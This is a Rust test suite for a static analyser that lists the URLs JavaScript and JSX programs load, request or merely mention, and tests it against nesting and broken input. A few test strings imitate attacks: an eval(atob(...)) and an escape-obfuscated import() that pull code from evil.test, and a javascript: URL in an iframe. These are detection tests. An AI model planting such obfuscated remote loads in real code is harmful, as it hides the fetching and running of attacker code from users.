//! What JavaScript programs load, request and mention, with exact places; and programs that nobody would write.

mod nested;
mod sites;

use std::sync::OnceLock;

use congruent::model::{Document, Encoding, Facts, Role, Vocabulary, Wanted};
use congruent::{parse, rule};

fn vocabulary() -> &'static Vocabulary {
    static VOCABULARY: OnceLock<Vocabulary> = OnceLock::new();
    VOCABULARY.get_or_init(|| rule::vocabulary().unwrap_or_default())
}

fn facts(path: &str, source: &str) -> Facts {
    let document = Document::new(path, source, Encoding::Utf8 { bom: false });
    parse::parse(&document, vocabulary(), Wanted::all())
}

/// The hosts that are loaded from when only loads are asked for: what a byte search rules out is not parsed then.
fn loaded_hosts(path: &str, source: &str, wanted: Wanted) -> Vec<String> {
    let document = Document::new(path, source, Encoding::Utf8 { bom: false });
    let urls = parse::parse(&document, vocabulary(), wanted).urls;
    let loads = urls.iter().filter(|url| matches!(url.role, Role::Load(_)));
    let mut hosts: Vec<_> = loads.filter_map(|url| Some(format!("{:?} {}", url.span, url.reference.host()?))).collect();
    hosts.sort();
    hosts
}

/// Every URL but those that are only mentioned: `role source` in the order of the file, with a host where the source
/// doesn't say it alone.
fn used(path: &str, source: &str) -> Vec<String> {
    let loads = Wanted { loads: true, ..Wanted::default() };
    assert_eq!(loaded_hosts(path, source, loads), loaded_hosts(path, source, Wanted::all()), "gated: {source}");
    let mut urls = facts(path, source).urls;
    urls.sort_by_key(|url| url.span);
    let used = urls.iter().filter(|url| url.role.name() != "mention");
    used.map(|url| {
        let raw = &source[url.span.range()];
        let host = url.reference.host().map_or_else(|| url.reference.reason().unwrap_or_default(), ToOwned::to_owned);
        if raw.contains(&host) { format!("{} {raw}", url.role) } else { format!("{} {raw} -> {host}", url.role) }
    })
    .collect()
}

#[track_caller]
fn page(source: &str, expected: &[&str]) {
    assert_eq!(used("docs/page.js", source), expected, "{source}");
}

#[test]
fn imports_load_scripts() {
    page(
        "import a from 'https://a.test/a.js'; export * from \"//b.test/b.js\"; import(/* x */ 'https://c.test/c.js'); import d from 'react'; import './local.js'",
        &["script-src https://a.test/a.js", "script-src //b.test/b.js", "script-src https://c.test/c.js"],
    );
    page(
        "new Worker('//a.test/w.js'); importScripts('https://b.test/1.js', 'https://c.test/2.js'); navigator.serviceWorker.register('https://d.test/sw.js')",
        &[
            "worker-src //a.test/w.js",
            "script-src https://b.test/1.js",
            "script-src https://c.test/2.js",
            "worker-src https://d.test/sw.js",
        ],
    );
}

#[test]
fn a_program_that_no_page_runs_downloads_and_calls() {
    let source = "const x = require('https://a.test/x'); import('https://b.test/y.js'); fetch('https://c.test/')";
    assert_eq!(used("scripts/a.mjs", source), ["download https://a.test/x", "download https://b.test/y.js", "endpoint https://c.test/"]);
    assert_eq!(used("x.js", "fetch('https://c.test/')"), ["endpoint https://c.test/"]);
    assert_eq!(used("x.js", "fetch('https://c.test/').then(() => document.title = 'x')"), ["connect-src https://c.test/"]);
    assert_eq!(used("src/a.test.ts", "document.createElement('img').src = 'https://a.test/x.png'"), [""; 0]);
}

#[test]
fn requests_are_made_in_many_ways() {
    page(
        "new EventSource('https://a.test/'); new WebSocket('wss://b.test/'); navigator.sendBeacon('https://c.test/', x);
         const r = new XMLHttpRequest(); r.open('GET', 'https://d.test/'); axios({ url: 'https://e.test/' }); $.getJSON('https://f.test/');
         import ax from 'axios'; ax.get('https://g.test/'); window.fetch('https://h.test/'); const { post } = axios; cache.get('https://no.test/')",
        &[
            "connect-src https://a.test/",
            "connect-src wss://b.test/",
            "connect-src https://c.test/",
            "connect-src https://d.test/",
            "connect-src https://e.test/",
            "connect-src https://f.test/",
            "connect-src https://g.test/",
            "connect-src https://h.test/",
        ],
    );
}

#[test]
fn elements_are_known_by_how_they_are_made() {
    page("const s = document.createElement('script'); s.src = 'https://' + 'a.test' + '/x';", &["script-src https://' + 'a.test' + '/x"]);
    page(
        "const l = document.createElement('link'); l.href = 'https://a.test/x'; l.rel = 'icon'; head.append(l)",
        &["img-src https://a.test/x"],
    );
    page(
        "const l = document.createElement('link'); l.setAttribute('rel', 'stylesheet'); l.setAttribute('href', '//a.test/x')",
        &["style-src //a.test/x"],
    );
    page("const l = document.createElement('link'); l.rel = 'canonical'; l.href = 'https://a.test/x'", &["navigate https://a.test/x"]);
    page("const p = new Image(); p.src = 'https://a.test/pixel?x=' + y", &["img-src https://a.test/pixel?x="]);
    page("document.querySelector('#f > iframe.x').src = 'https://a.test/'", &["frame-src https://a.test/"]);
    page(
        "Object.assign(document.createElement('video'), { poster: 'https://a.test/p', src: 'https://b.test/v' })",
        &["img-src https://a.test/p", "media-src https://b.test/v"],
    );
    page(
        "$('<script>', { src: 'https://a.test/x' }); $('img').attr('src', 'https://b.test/y')",
        &["script-src https://a.test/x", "img-src https://b.test/y"],
    );
    page("i.srcset = 'https://a.test/1.png 1x, //b.test/2.png 2x'", &["img-src https://a.test/1.png", "img-src //b.test/2.png"]);
}

#[test]
fn an_unknown_element_is_judged_by_its_name_and_the_url() {
    page("this.logoImg.src = 'https://a.test/x'", &["img-src https://a.test/x"]);
    page("x.src = 'https://a.test/x.webp?v=1'", &["img-src https://a.test/x.webp?v=1"]);
    page("x.src = 'https://a.test/x'", &["script-src https://a.test/x"]);
    page("x.href = 'https://a.test/x'; y.href = 'https://a.test/y.css'", &["navigate https://a.test/x", "style-src https://a.test/y.css"]);
    page("const config = {}; config.src = 'https://a.test/x'", &[]);
}

#[test]
fn a_constant_reaches_its_use_through_functions() {
    page(
        r#"const BUNDLE = "https://cdn.test/redoc.js";
           function assetUrl(relative) { if (base) { return new URL(relative, base.src).toString(); } return relative; }
           function load(src) { return new Promise((resolve) => { const script = document.createElement("script"); script.src = src; resolve(); }); }
           function init() { load(assetUrl(BUNDLE)).then(() => {}); }"#,
        &["script-src https://cdn.test/redoc.js"],
    );
    page(
        "['https://a.test/1.js', '//b.test/2.js'].forEach(u => load(u)); function load(u) { const s = document.createElement('script'); s.src = u }",
        &["script-src https://a.test/1.js", "script-src //b.test/2.js"],
    );
    page("for (const u of ['https://a.test/1.js']) import(u)", &["script-src https://a.test/1.js"]);
    page(
        "const load = ({ src, type = 'x' }) => { const s = document.createElement('script'); s.src = src }; load({ src: 'https://a.test/x' })",
        &["script-src https://a.test/x"],
    );
    page("class Api { base = 'https://a.test/v1'; get(path) { return fetch(this.base + path) } }", &["connect-src https://a.test/v1"]);
    page(
        "class Api { constructor(base) { this.base = base } get(p) { return fetch(`${this.base}/x`) } } new Api('https://a.test')",
        &["connect-src https://a.test"],
    );
    page("const api = { base: 'https://a.test/', get(p) { return fetch(this.base + p) } }; api.get('x')", &["connect-src https://a.test/"]);
    page(
        "(function (w, d, u) { const s = d.createElement('script'); s.src = u })(window, document, 'https://a.test/t.js')",
        &["script-src https://a.test/t.js"],
    );
}

#[test]
fn a_function_of_another_file_does_what_its_name_says() {
    page("import { watchScript } from '~/browser'; watchScript('https://a.test/x')", &["script-src https://a.test/x"]);
    page("function loadScript(x) { console.log(x) } loadScript('https://no.test/x')", &[]);
}

#[test]
fn branches_are_joined_and_closures_see_later_values() {
    page(
        "let u = 'https://a.test/'; if (x) { u = 'https://b.test/' } fetch(u)",
        &["connect-src https://a.test/", "connect-src https://b.test/"],
    );
    page("let u = 'https://a.test/'; u = '/local'; fetch(u)", &["connect-src /local -> relative"]);
    page("fetch(x ? 'https://a.test/' : 'https://b.test/')", &["connect-src https://a.test/", "connect-src https://b.test/"]);
    page(
        "let u; function go() { fetch(u) } u = 'https://a.test/'; u = 'https://b.test/'",
        &["connect-src https://a.test/", "connect-src https://b.test/"],
    );
    page("const u = 'https://no.test/'; function f() { const u = '/x'; fetch(u) }", &["connect-src /x -> relative"]);
    page(
        "const hosts = { a: 'https://a.test/', b: 'https://b.test/' }; fetch(hosts[x])",
        &["connect-src https://a.test/", "connect-src https://b.test/"],
    );
}

#[test]
fn strings_are_built() {
    page("const B = 'https://a.test'; fetch(`${B}/runs/${id}`)", &["connect-src https://a.test"]);
    page("const h = 'a.test'; fetch('https://' + h + '/x')", &["connect-src https://' + h + '/x -> a.test"]);
    page("fetch(`https://${h}.a.test/x`)", &["connect-src https://${h}.a.test/x -> dynamic"]);
    page("fetch(['https:', '', 'a.test', 'x'].join('/'))", &["connect-src https:', '', 'a.test', 'x"]);
    page("fetch('https://a.test'.concat('/x'))", &["connect-src https://a.test'.concat('/x"]);
    page("fetch(new URL('x', 'https://a.test/y/'))", &["connect-src https://a.test/y/"]);
    page("fetch(new URL('//b.test/x', 'https://a.test/y/').href)", &["connect-src //b.test/x"]);
    page("eval(atob('ZmV0Y2goImh0dHBzOi8vZXZpbC50ZXN0LyIp'))", &["connect-src ZmV0Y2goImh0dHBzOi8vZXZpbC50ZXN0LyIp -> evil.test"]);
    page(r"import('https\x3a//\u0065vil.test/x.js')", &[r"script-src https\x3a//\u0065vil.test/x.js -> evil.test"]);
}

#[test]
fn strings_hold_html_css_and_programs() {
    page("el.innerHTML = '<img src=\"https://a.test/x.png\">'", &["img-src https://a.test/x.png"]);
    page("document.write('<scr' + 'ipt src=\"//a.test/x.js\"></scr' + 'ipt>')", &["script-src //a.test/x.js"]);
    page("const C = 'https://a.test'; el.innerHTML = `<img src=\"${C}/x.png\">`", &["img-src https://a.test"]);
    page("el.style.backgroundImage = 'url(https://a.test/x.png)'", &["img-src https://a.test/x.png"]);
    page("const B = styled.div`background: url(https://a.test/x.png)`", &["img-src https://a.test/x.png"]);
    page("setTimeout(\"fetch('https://a.test/')\", 5)", &["connect-src https://a.test/"]);
    page("x.dangerouslySetInnerHTML = { __html: '<img src=//a.test/x>' }", &["img-src //a.test/x"]);
    page("location.href = 'https://a.test/'; window.open('https://b.test/')", &["navigate https://a.test/", "navigate https://b.test/"]);
    page(
        "img.src = 'data:text/html,x'; iframe.src = 'javascript:fetch(\"https://a.test/\")'",
        &["img-src data:text/html,x", "frame-src javascript:fetch(\"https://a.test/\")", "connect-src https://a.test/"],
    );
}

#[test]
fn jsx_elements_are_elements() {
    let source = "const C = 'https://c.test/x'; export default () => <><img src='https://a.test/x&amp;y' srcSet=\"https://b.test/1 1x\"/><script src={C}/>
        <Image src=\"https://d.test/\" /><a href='https://e.test/'>x</a><div style={{ backgroundImage: 'url(https://f.test/)' }} /><img {...{ src: 'https://g.test/' }}/></>";
    assert_eq!(
        used("src/a.tsx", source),
        [
            "script-src https://c.test/x",
            "img-src https://a.test/x&amp;y",
            "img-src https://b.test/1",
            "img-src https://d.test/",
            "navigate https://e.test/",
            "img-src https://f.test/",
            "img-src https://g.test/",
        ]
    );
}

#[test]
fn what_goes_nowhere_is_mentioned() {
    let source = "// see https://a.test/docs\nconst u = 'https://b.test/', e = \"no, see https://c.test/x.\"; const r = /https?:\\/\\//; if (x.includes('https://d.test')) throw new Error(`at https://e.test/${y}`)";
    let mut urls = facts("src/a.js", source).urls;
    urls.sort_by_key(|url| url.span);
    let all: Vec<_> = urls.iter().map(|url| (url.role.name(), &source[url.span.range()])).collect();
    let hosts = ["https://a.test/docs", "https://b.test/", "https://c.test/x", "https://d.test", "https://e.test/"];
    assert_eq!(all, hosts.map(|url| ("mention", url)));
}

#[test]
fn comments_speak_and_name_source_maps() {
    let source = "// congruent: ignore[x]: y\nf() /* congruent: z */\n//# sourceMappingURL=https://a.test/x.js.map\n";
    let facts = facts("docs/a.js", source);
    let comments: Vec<_> =
        facts.comments.iter().map(|comment| (&source[comment.span.range()], &source[comment.text_span.range()])).collect();
    assert_eq!(comments, [("// congruent: ignore[x]: y", "congruent: ignore[x]: y"), ("/* congruent: z */", "congruent: z")]);
    assert_eq!(used("docs/a.js", source), ["connect-src https://a.test/x.js.map"]);
}

#[test]
fn positions_count_in_the_file() {
    let source = "const é = '😀';\r\nfetch(\r\n\t'https:\\/\\/a.test\\/x')";
    let document = Document::new("docs/a.js", source, Encoding::Utf8 { bom: false });
    let facts = parse::parse(&document, vocabulary(), Wanted::all());
    let position = document.position(facts.urls[0].span.start);
    assert_eq!((position.line, position.column), (3, 3));
    assert_eq!(&source[facts.urls[0].span.range()], "https:\\/\\/a.test\\/x");
    assert_eq!(facts.urls[0].text, "https://a.test/x");
}

#[test]
fn a_bundle_is_read_for_what_it_shows() {
    let source = format!(
        "/*! license https://no.test/l */{}e.exports=r.createElement(\"img\",{{alt:\"x\",onError:()=>t(!1),src:\"https://a.test/x.svg\"}});\
         var u=\"https://no.test/u\";s.src=\"https://b.test/x.js\";i.setAttribute(\"src\",\"https://c.test/x.png\");import(\"https://d.test/m.js\");\
         throw Error(\"see https://no.test/e\");x={{url:\"https://no.test/v\"}};(0,n.jsx)(\"a\",{{href:\"https://e.test/\"}});fetch(\"https://f.test/\"+q);y=\"//\"+\"src=https://no.test/\"",
        "a(1);".repeat(4000)
    );
    page(
        &source,
        &[
            "img-src https://a.test/x.svg",
            "script-src https://b.test/x.js",
            "img-src https://c.test/x.png",
            "script-src https://d.test/m.js",
            "navigate https://e.test/",
            "connect-src https://f.test/",
        ],
    );
}

/// Pairs of what opens, what stands in the middle, and what closes.
const NESTED: [(&str, &str, &str); 24] = [
    ("[\n", "\"https://a.test/\"", "]\n"),
    ("(\n", "1", ")\n"),
    ("{\n", "1", "}\n"),
    ("{\n", "", ""),
    ("x={a:\n", "1", "}\n"),
    ("()=>\n", "1", ""),
    ("f(\n", "'x'", ")\n"),
    ("a\n.b(", "1", ")"),
    ("`${\n", "1", "}`"),
    ("<a>\n", "x", "</a>"),
    ("<a b={\n", "x", "}/>"),
    ("function f(){\n", "1", "}\n"),
    ("(function(){\n", "fetch('https://a.test/')", "})()\n"),
    ("if(a){u='https://a.test'}else\n", "{}", ""),
    ("a||\n", "b", ""),
    ("'a'+\n", "b", ""),
    ("a?b:\n", "c", ""),
    ("!\n", "a", ""),
    ("new\n", "a", ""),
    ("a=\n", "'https://a.test/'", ""),
    ("switch(a){case 1:\n", "", "}"),
    ("class A{b(){\n", "", "}}"),
    ("var {a:\n", "b", "}=c"),
    ("/*\n", "", ""),
];

#[test]
fn deep_nesting_is_bounded() {
    for (open, middle, close) in NESTED {
        let source = open.repeat(5_000) + middle + &close.repeat(5_000);
        facts("a.jsx", &source);
    }
}

#[test]
fn broken_programs_are_read() {
    let program = "import a from 'https://a.test/x'; class A extends B { x = `a${b}c`; static { f(<i a='b' {...c}>{d}</i>) } }\nconst { e = 1, ...f } = g?.[h] ?? /i[/]j/g; for (const k of l) { if (m) n += 'é\\u{1F600}'; else o = async ([p]) => { throw q } }";
    for end in (0..program.len()).filter(|end| program.is_char_boundary(*end)) {
        for path in ["a.js", "a.ts", "a.tsx"] {
            facts(path, &program[..end]);
            facts(path, &program[end..]);
        }
    }
}

#[test]
fn wrappers_that_call_wrappers_take_linear_time() {
    let mut source = String::new();
    for i in 0..40 {
        source.push_str(&format!("function f{i}(u){{f{}(u);f{}(u+'x');f{}(u)}}\n", i + 1, i + 1, i + 2));
    }
    source.push_str("function f40(u){fetch(u)}\n");
    source.push_str(&"f0('https://a.test/');\n".repeat(2000));
    facts("a.js", &source);
}

#[test]
fn appending_in_a_loop_takes_linear_time() {
    let source = "let s = '';\n".to_owned() + &"s += '<p>x</p>';\n".repeat(5_000) + "document.body.innerHTML = s";
    facts("a.js", &source);
}

#[test]
fn functions_that_hold_a_fact_are_named() {
    let source = "class Api { load() { fetch('https://a.test/') } idle() {} }\nconst go = () => fetch('https://b.test/');\nconst x = { run() { fetch('https://c.test/') } };\nfunction no() {}";
    let anchors = facts("docs/a.js", source).anchors;
    let names: Vec<_> = anchors.iter().map(|anchor| (anchor.name.as_str(), &source[anchor.span.range()][..5])).collect();
    assert_eq!(names, [("Api", "class"), ("load", "load("), ("go", "() =>"), ("run", "run()")]);
}
